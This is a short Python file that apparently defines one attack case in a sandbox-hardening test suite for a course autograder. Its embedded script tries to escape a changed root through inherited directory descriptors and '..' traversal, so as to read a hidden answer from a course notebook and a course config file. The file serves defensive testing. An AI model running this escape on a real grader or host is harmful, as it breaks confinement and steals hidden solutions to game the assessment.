from attack import Attack

# a folder held open from before a change of root leads out of it
_CLIMB = """
import os
root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
for _ in range(40):
    root = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=root)
    os.fchdir(root)
for number in range(256):
    try: os.fchdir(number)
    except OSError: continue
    for depth in range(8):
        path = "../" * depth + "COURSE/build/source/u01/case.ipynb".lstrip("/")
        if os.path.exists(path):
            text = open(path).read()
            print(text[text.index("the-hidden-figure") :][:23])
os.chdir("/box")
open("/box/../../../../../../COURSE/course.toml")
"""
ATTACK = Attack(
    "to climb out of the sandbox's root",
    figure=_CLIMB,
    points={"pick": 2.0},
    reason="No such file or directory",
)
